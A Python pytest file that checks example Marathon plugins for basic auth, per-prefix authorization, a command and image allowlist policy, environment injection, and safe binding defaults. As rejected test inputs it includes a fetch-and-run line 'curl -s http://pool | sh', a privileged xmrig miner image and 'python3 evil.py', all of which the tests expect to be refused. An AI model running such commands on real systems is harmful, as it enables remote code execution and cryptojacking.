"""The example plugin packages (plugins/) in a real `marathon serve`.

One server runs all three from a `--plugin_conf` descriptor naming their entry
points: marathon-auth-basic (users dev on /dev/, prod viewing /prod/, admin
on /), marathon-policy-allowlist and marathon-env-injector (apps /dev/*).
The tests share it and run in file order: the secrets test stops it, then
greps every file it wrote for the passwords; the last test starts servers of
its own that must refuse a public address (or fail to bind one that is no
interface here), so nothing ever listens beyond loopback.
"""

from __future__ import annotations

import base64
import json
import secrets
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import httpx
import pytest

from marathon.testing import MarathonProcess, free_port, private_port_range, wait_for

PASSWORDS = {user: f"pw-{user}-{secrets.token_hex(8)}" for user in ("dev", "prod", "admin")}
ENV_CMD = 'echo "$INJECTED|$OVERRIDDEN" > $MESOS_SANDBOX/out; sleep 1000'
NOT_AUTHORIZED = {"message": "Not Authorized to perform this action!"}


def hash_with_cli(password: str) -> str:
    return subprocess.run(
        [sys.executable, "-m", "marathon_auth_basic", "hash"], input=password + "\n",
        capture_output=True, text=True, check=True,
    ).stdout.strip()


def descriptor(hashes: dict[str, str]) -> dict:
    def perms(kinds: list[str], on: str) -> list[dict]:
        return [{"allowed": k, "on": on} for k in kinds]

    return {"plugins": {
        "auth": {"plugin": "auth-basic", "configuration": {"users": [
            {"user": "dev", "password_hash": hashes["dev"], "permissions": perms(["create", "update", "delete", "view"], "/dev/")},
            {"user": "prod", "password_hash": hashes["prod"], "permissions": perms(["view"], "/prod/")},
            {"user": "admin", "password_hash": hashes["admin"], "permissions": perms(["admin"], "/")},
        ]}},
        "policy": {"plugin": "policy-allowlist", "configuration": {
            "images": ["registry.corp/*"], "commands": ["sleep *", ENV_CMD], "forbid_privileged": True}},
        "env": {"plugin": "env-injector", "configuration": {
            "env": {"INJECTED": "from-plugin", "OVERRIDDEN": "from-plugin"}, "apps": "/dev/*"}},
    }}


@pytest.fixture(scope="module")
def conf(tmp_path_factory) -> Path:
    """The descriptor, with hashes made by the package's own command."""
    path = tmp_path_factory.mktemp("descriptor") / "plugins.json"
    path.write_text(json.dumps(descriptor({u: hash_with_cli(p) for u, p in PASSWORDS.items()}), indent=2))
    return path


@pytest.fixture(scope="module")
def server(tmp_path_factory, conf):
    m = MarathonProcess(tmp_path_factory.mktemp("server"), agent_ports=private_port_range(),
                        args=["--plugin_conf", str(conf), "--agent_resources", "cpus:8;mem:4096;disk:4096"])
    with m:
        yield m


@pytest.fixture(scope="module")
def as_user(server):
    clients = {u: httpx.Client(base_url=server.url, auth=(u, p), timeout=30) for u, p in PASSWORDS.items()}
    yield clients
    for c in clients.values():
        c.close()


def app(app_id: str, cmd: str = "sleep 1000", **extra) -> dict:
    return {"id": app_id, "cmd": cmd, "cpus": 0.01, "mem": 16, "instances": 1, **extra}


def running_tasks(client: httpx.Client, app_id: str, n: int = 1) -> list[dict]:
    def check() -> list[dict] | None:
        tasks = client.get(f"/v2/apps{app_id}/tasks").json()["tasks"]
        running = [t for t in tasks if t["state"] == "TASK_RUNNING"]
        return running if len(running) == n else None

    return wait_for(check, timeout=60, message=f"{n} running tasks of {app_id}")


@pytest.fixture(scope="module")
def world(as_user):
    """Apps of several owners.  The `/*/stuck` apps ask for more CPU than the
    agent has, so they stay in the queue with a running deployment."""
    admin = as_user["admin"]
    for spec in (app("/dev/web"), app("/prod/db"), app("/development/x"),
                 app("/prod/stuck", cpus=100), app("/dev/stuck", cpus=100)):
        r = admin.post("/v2/apps", json=spec)
        assert r.status_code == 201, r.text
    return {a: running_tasks(admin, a)[0]["id"] for a in ("/dev/web", "/prod/db", "/development/x")}


# -- authentication -----------------------------------------------------------------------

PARAMS = {"app_id": "dev/web", "task_id": "dev_web.instance-00000000-0000-0000-0000-000000000000._app.1",
          "version": "2020-01-01T00:00:00.000Z", "group_id": "dev", "deployment_id": "x", "plugin_id": "auth",
          "path": "x", "agent_id": "x"}


def test_every_route_needs_credentials_except_ping(server, as_user):
    doc = as_user["admin"].get("/openapi.json")
    assert doc.status_code == 200
    routes = [(method.upper(), path) for path, ops in doc.json()["paths"].items() for method in ops
              if method in ("get", "head", "post", "put", "patch", "delete")]
    assert len(routes) >= 30
    routes += [("GET", "/nonexistent"), ("GET", "/v2/apps/../v2/info"), ("HEAD", "/v2/apps")]
    anonymous = httpx.Client(base_url=server.url, timeout=30)
    checked = 0
    for method, path in routes:
        url = path.format(**PARAMS)
        body = {"id": "/dev/miner", "cmd": "sleep 1"} if method in ("POST", "PUT", "PATCH") else None
        r = anonymous.request(method, url, json=body)
        if path == "/ping":
            assert r.status_code == 200, (method, url)
            continue
        assert r.status_code == 401, (method, url, r.status_code, r.text)
        assert r.headers["WWW-Authenticate"] == 'Basic realm="Marathon", charset="UTF-8"', (method, url)
        if method != "HEAD":
            assert r.json() == {"message": "Not Authenticated!"}, (method, url)
        checked += 1
    assert checked >= 30
    # A miner posted without credentials never reaches the store.
    r = anonymous.post("/v2/apps", json=app("/dev/miner", "curl -s http://pool | sh"))
    assert r.status_code == 401
    assert as_user["admin"].get("/v2/apps/dev/miner").status_code == 404
    anonymous.close()


def test_wrong_password_and_unknown_user_are_both_401(server):
    for user, password in (("dev", "wrong-password"), ("nobody", PASSWORDS["dev"])):
        r = httpx.get(f"{server.url}/v2/apps", auth=(user, password))
        assert r.status_code == 401 and r.json() == {"message": "Not Authenticated!"}
        assert r.headers["WWW-Authenticate"].startswith('Basic realm="Marathon"')


def test_repeated_failures_from_one_address_get_429(server):
    # From another loopback address, so the other tests' address stays unblocked.
    source = "127.0.0.7"
    client = httpx.Client(base_url=server.url, transport=httpx.HTTPTransport(local_address=source), timeout=30)
    codes = [client.get("/v2/apps", auth=("dev", f"guess-{i}")).status_code for i in range(10)]
    assert codes == [401] * 9 + [429], codes
    blocked = client.get("/v2/apps", auth=("dev", PASSWORDS["dev"]))
    assert blocked.status_code == 429, "while blocked, not even the right password is checked"
    assert 0 < int(blocked.headers["Retry-After"]) <= 60
    client.close()
    assert httpx.get(f"{server.url}/v2/apps", auth=("dev", PASSWORDS["dev"])).status_code == 200


# -- authorization ------------------------------------------------------------------------


def forbidden(r: httpx.Response) -> bool:
    return r.status_code == 403 and r.json() == NOT_AUTHORIZED


def test_out_of_prefix_changes_and_views_are_403(as_user, world):
    dev, prod, admin = as_user["dev"], as_user["prod"], as_user["admin"]
    before = admin.get("/v2/apps/prod/db").json()["app"]
    for foreign in ("/prod/db", "/development/x"):
        task = world[foreign]
        path = foreign[1:]
        attempts = [
            dev.get(f"/v2/apps/{path}"),
            dev.get(f"/v2/apps/{path}/tasks"),
            dev.get(f"/v2/apps/{path}/versions"),
            dev.post("/v2/apps", json=app(f"{foreign}-new")),
            dev.put(f"/v2/apps/{path}-new", json=app(f"{foreign}-new")),
            dev.put(f"/v2/apps/{path}", json={"instances": 2}),
            dev.patch(f"/v2/apps/{path}", json={"instances": 2}),
            dev.put("/v2/apps", json=[{"id": foreign, "instances": 3}]),
            dev.post(f"/v2/apps/{path}/restart"),
            dev.delete(f"/v2/apps/{path}"),
            dev.delete(f"/v2/apps/{path}/tasks"),
            dev.delete(f"/v2/apps/{path}/tasks/{task}"),
            dev.post("/v2/tasks/delete", json={"ids": [task]}),
            dev.get(f"/v2/groups/{path.split('/')[0]}"),
            dev.get(f"/v2/apps/{path.split('/')[0]}/*"),
            dev.post("/v2/groups", json={"id": f"/{path.split('/')[0]}/newgroup"}),
            dev.put(f"/v2/groups/{path.split('/')[0]}", json={"scaleBy": 2}),
            dev.delete(f"/v2/groups/{path.split('/')[0]}"),
        ]
        for r in attempts:
            assert forbidden(r), (r.request.method, r.request.url, r.status_code, r.text)
    assert forbidden(dev.delete("/v2/groups"))
    assert forbidden(dev.delete("/v2/queue/prod/stuck/delay"))
    # prod may look at /prod/ but not change it, and not look elsewhere.
    assert prod.get("/v2/apps/prod/db").status_code == 200
    for r in (prod.put("/v2/apps/prod/db", json={"instances": 2}), prod.delete("/v2/apps/prod/db"),
              prod.post("/v2/apps", json=app("/prod/new")), prod.post("/v2/apps/prod/db/restart"),
              prod.delete(f"/v2/apps/prod/db/tasks/{world['/prod/db']}"), prod.get("/v2/apps/dev/web")):
        assert forbidden(r), (r.request.method, r.request.url, r.status_code, r.text)
    # Nothing changed, nothing was killed.
    after = admin.get("/v2/apps/prod/db").json()["app"]
    assert (after["instances"], after["version"]) == (before["instances"], before["version"])
    assert [t["id"] for t in running_tasks(admin, "/prod/db")] == [world["/prod/db"]]
    assert admin.get("/v2/apps/prod/db-new").status_code == 404
    assert admin.get("/v2/groups/prod/newgroup").status_code == 404
    # Inside its prefix dev may do everything.
    assert dev.post("/v2/apps", json=app("/dev/new")).status_code == 201
    assert dev.put("/v2/apps/dev/new?force=true", json={"instances": 2}).status_code == 200
    assert dev.post("/v2/apps/dev/web/restart").status_code == 200
    assert dev.delete("/v2/apps/dev/new?force=true").status_code == 200


def ids_in(text: str) -> bool:
    return "prod" in text or "development" in text


def test_lists_hold_no_foreign_ids(as_user, world):
    dev, prod, admin = as_user["dev"], as_user["prod"], as_user["admin"]
    lists = ["/v2/apps", "/v2/apps?embed=apps.tasks&embed=apps.deployments", "/v2/groups",
             "/v2/groups?embed=group.groups&embed=group.apps", "/v2/groups/apps", "/v2/tasks",
             "/v2/deployments", "/v2/queue", "/v2/apps/*"]
    wait_for(lambda: {"/dev/stuck", "/prod/stuck"} <= {q["app"]["id"] for q in admin.get("/v2/queue").json()["queue"]},
             timeout=30, message="both stuck apps queued")
    for url in lists:
        whole = admin.get(url)
        assert whole.status_code == 200 and ids_in(whole.text), url  # the foreign ids are there to leak
        mine = dev.get(url)
        assert mine.status_code == 200, (url, mine.text)
        assert not ids_in(mine.text), (url, mine.text)
        theirs = prod.get(url)
        assert theirs.status_code == 200 and "dev" not in theirs.text, (url, theirs.text)
    assert "/dev/web" in dev.get("/v2/apps").text and "/dev/stuck" in dev.get("/v2/queue").text
    assert [g["id"] for g in dev.get("/v2/groups").json()["groups"]] == ["/dev"]


class AuthSSE:
    """Frames of one authenticated event stream, read in a thread."""

    def __init__(self, url: str, auth: tuple[str, str]) -> None:
        self.events: list[tuple[str, dict]] = []
        self._connected = threading.Event()
        threading.Thread(target=self._run, args=(url, auth), daemon=True).start()
        wait_for(self._connected.is_set, timeout=30, message="the stream to open")

    def _run(self, url: str, auth: tuple[str, str]) -> None:
        try:
            with httpx.stream("GET", url, auth=auth, headers={"Accept": "text/event-stream"}, timeout=None) as r:
                assert r.status_code == 200, r.status_code
                self._connected.set()
                buffer = b""
                for chunk in r.iter_raw():
                    buffer += chunk
                    *frames, buffer = buffer.split(b"\n\n")
                    for frame in frames:
                        fields = dict(line.split(b": ", 1) for line in frame.strip(b"\n").split(b"\n") if b": " in line)
                        if b"event" in fields:
                            self.events.append((fields[b"event"].decode(), json.loads(fields[b"data"])))
        except httpx.HTTPError:
            pass

    def about(self, app_id: str) -> list[str]:
        return [t for t, d in list(self.events) if app_id in json.dumps(d)]


def test_event_stream_shows_each_user_only_its_apps(server, as_user, world):
    streams = {u: AuthSSE(f"{server.url}/v2/events", (u, PASSWORDS[u])) for u in ("dev", "prod", "admin")}
    admin = as_user["admin"]
    assert as_user["dev"].post("/v2/apps", json=app("/dev/ev")).status_code == 201
    assert admin.post("/v2/apps", json=app("/prod/ev")).status_code == 201
    for a in ("/dev/ev", "/prod/ev"):
        wait_for(lambda a=a: "status_update_event" in streams["admin"].about(a), timeout=60, message=f"{a} running")
    wait_for(lambda: "status_update_event" in streams["dev"].about("/dev/ev"), timeout=30, message="dev sees its app")
    wait_for(lambda: "status_update_event" in streams["prod"].about("/prod/ev"), timeout=30, message="prod sees its app")
    # A deployment's success is published once its record is deleted from
    # the store, which may come after the task's status update: wait for it.
    for u, a in (("dev", "/dev/ev"), ("prod", "/prod/ev")):
        wait_for(lambda u=u, a=a: "deployment_success" in streams[u].about(a), timeout=30,
                 message=f"{u} sees its deployment end")
    dev_text = json.dumps(streams["dev"].events)
    prod_text = json.dumps(streams["prod"].events)
    assert not ids_in(dev_text), dev_text
    assert "/dev" not in prod_text and "dev_" not in prod_text, prod_text
    for u in ("dev", "prod"):
        assert {"api_post_event", "deployment_info", "deployment_success", "instance_changed_event"} <= {
            t for t, _ in streams[u].events}, streams[u].events


def test_system_endpoints_are_admin_only(as_user):
    for url in ("/v2/info", "/v2/leader", "/v2/plugins", "/metrics"):
        assert as_user["admin"].get(url).status_code == 200, url
        for user in ("dev", "prod"):
            assert forbidden(as_user[user].get(url)), (user, url)
    assert forbidden(as_user["dev"].post("/v2/plugins/auth/x"))
    assert as_user["dev"].get("/ping").status_code == 200


# -- policy ------------------------------------------------------------------------------


def test_policy_refuses_disallowed_images_commands_and_privileges(as_user):
    admin = as_user["admin"]
    cases = [
        (app("/dev/miner", "curl -s http://pool | sh"), ["/cmd"]),
        (app("/dev/chain", "sleep 1; curl -s http://pool | sh"), ["/cmd"]),
        ({"id": "/dev/img", "cpus": 0.01, "mem": 16,
          "container": {"type": "DOCKER", "docker": {"image": "docker.io/xmrig/xmrig", "privileged": True}}},
         ["/container/docker/image", "/container/docker/privileged"]),
    ]
    for spec, paths in cases:
        r = admin.post("/v2/apps", json=spec)
        assert r.status_code == 422, r.text
        body = r.json()
        assert body["message"] == "Object is not valid"
        assert [d["path"] for d in body["details"]] == paths, body
        assert all(d["errors"] and d["errors"][0] for d in body["details"])
        assert admin.get(f"/v2/apps{spec['id']}").status_code == 404
    assert "'registry.corp/*'" in admin.post("/v2/apps", json=cases[2][0]).json()["details"][0]["errors"][0]
    # An update is checked too, and a refused one leaves the app as it was.
    assert admin.post("/v2/apps", json=app("/dev/ok")).status_code == 201
    r = admin.put("/v2/apps/dev/ok", json={"cmd": "sleep 1 && sh"})
    assert r.status_code == 422 and [d["path"] for d in r.json()["details"]] == ["/cmd"]
    assert admin.get("/v2/apps/dev/ok").json()["app"]["cmd"] == "sleep 1000"
    # Several apps at once: one bad app refuses the whole change; its path names it.
    r = admin.put("/v2/apps", json=[app("/dev/batch-a"), app("/dev/batch-b", "python3 evil.py")])
    assert r.status_code == 422, r.text
    (detail,) = r.json()["details"]
    assert "/dev/batch-b" in detail["path"] and detail["path"].endswith("/cmd"), detail
    assert admin.get("/v2/apps/dev/batch-a").status_code == 404


# -- env injector ------------------------------------------------------------------------


def test_injected_env_reaches_matching_tasks_and_the_app_wins(server, as_user):
    admin = as_user["admin"]
    for app_id in ("/dev/envcheck", "/other/envcheck"):
        assert admin.post("/v2/apps", json=app(app_id, ENV_CMD, env={"OVERRIDDEN": "from-app"})).status_code == 201

    def out(app_id: str) -> str | None:
        (task,) = running_tasks(admin, app_id)
        f = server.data_dir / "agent" / "sandboxes" / task["id"] / "out"
        return f.read_text().strip() if f.exists() else None

    assert wait_for(lambda: out("/dev/envcheck"), timeout=60, message="the matching task's output") == "from-plugin|from-app"
    assert wait_for(lambda: out("/other/envcheck"), timeout=60, message="the other task's output") == "|from-app"


# -- secrets at rest and the secure default --------------------------------------------------


def test_no_plaintext_password_in_any_file_or_log(server, conf):
    server.stop()  # flush and close everything the server writes
    needles = [p.encode() for p in PASSWORDS.values()]
    needles += [base64.b64encode(f"{u}:{p}".encode()) for u, p in PASSWORDS.items()]  # Authorization values
    files = [conf, *[f for f in server.data_dir.rglob("*") if f.is_file()]]
    assert server.log_path in files
    for f in files:
        data = f.read_bytes()
        assert not [n for n in needles if n in data], f


def listening(port: int) -> bool:
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = Path(table).read_text().splitlines()[1:]
        except FileNotFoundError:
            continue
        if any(int(cols[1].rsplit(":", 1)[1], 16) == port and cols[3] == "0A" for cols in (line.split() for line in lines)):
            return True
    return False


def serve(tmp: Path, *args: str) -> tuple[int, str, bool]:
    """Run `marathon serve` until it exits; (exit code, stderr, whether its port was ever listening)."""
    port = free_port()
    proc = subprocess.Popen([sys.executable, "-m", "marathon", "serve", "--http_port", str(port), "--hostname", "127.0.0.1",
                             "--data_dir", str(tmp), *args], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    seen = False
    deadline = time.monotonic() + 60
    while proc.poll() is None and time.monotonic() < deadline:
        seen = seen or listening(port)
        time.sleep(0.01)
    if proc.poll() is None:
        proc.kill()
    _, err = proc.communicate()
    return proc.returncode, err.decode(), seen


def test_non_loopback_bind_needs_auth_or_an_explicit_opt_out(tmp_path, conf):
    code, err, seen = serve(tmp_path / "a", "--http_address", "0.0.0.0")
    assert code == 112 and "refusing to serve on 0.0.0.0 without an authentication plugin" in err, err
    assert not seen, "it must refuse before listening"
    # An address of no interface here: past the check, binding fails (111), so
    # nothing ever listens on a public interface.
    elsewhere = "203.0.113.1"
    with socket.socket() as s:
        try:
            s.bind((elsewhere, 0))
            pytest.skip(f"{elsewhere} is an address of this machine")
        except OSError:
            pass
    code, err, _ = serve(tmp_path / "b", "--http_address", elsewhere)
    assert code == 112 and "refusing" in err, err
    code, err, _ = serve(tmp_path / "c", "--http_address", elsewhere, "--plugin_conf", str(conf))
    assert code == 111 and "cannot bind" in err, err
    code, err, _ = serve(tmp_path / "d", "--http_address", elsewhere, "--insecure_no_auth")
    assert code == 111 and "cannot bind" in err, err
